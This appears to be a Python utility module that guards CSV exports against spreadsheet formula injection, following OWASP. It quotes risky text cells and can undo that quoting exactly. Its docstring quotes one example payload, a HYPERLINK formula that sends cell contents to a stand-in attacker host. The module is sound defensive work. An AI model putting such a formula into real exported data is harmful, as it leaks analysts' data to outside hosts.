"""CSV cells that a spreadsheet opens as text, never as a formula (OWASP "CSV Injection").

Every CSV we write ends up in Excel or LibreOffice sooner or later, and its text comes from outside:
customers' ids and names, uploaded file names, listed names, audit subjects. A spreadsheet runs a cell
that starts with `=`, `+`, `-` or `@` (and, in some, a tab or a carriage return) as a formula, so a
value such as `=HYPERLINK("https://evil.example/?"&A1, "click")` would leak data or run commands on an
analyst's machine. OWASP's remedy is applied: such a text cell gets a single quote in front, which
spreadsheets read as "this is text". Numbers written as numbers (scores, ranks) are left alone.

The change is reversible, so an export stays exact (the audit log's hashes are recomputed from it): a
cell that already starts with quotes before one of those characters gets one more quote too, and
`original_text` drops exactly one. Every CSV writer of the project goes through `formula_safe_row`;
it lives here, in the lowest layer, so that any writer above may import it.
"""

from __future__ import annotations

from collections.abc import Iterable

__all__ = ["formula_safe_row"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_QUOTE = "'"


def formula_safe_row(cells: Iterable[object]) -> list[object]:
    """The row as it may be written to CSV: each text cell a spreadsheet would run is quoted."""
    return [_QUOTE + cell if isinstance(cell, str) and _needs_quote(cell) else cell for cell in cells]


def original_text(cell: str) -> str:
    """A text cell read back from one of our CSV files as it was before `formula_safe_row` quoted it."""
    if cell.startswith(_QUOTE) and _needs_quote(cell[1:]):
        return cell[1:]
    return cell


def _needs_quote(text: str) -> bool:
    # Quotes already in front are looked through, so that the quoting can always be undone exactly.
    return text.lstrip(_QUOTE).startswith(FORMULA_STARTS)
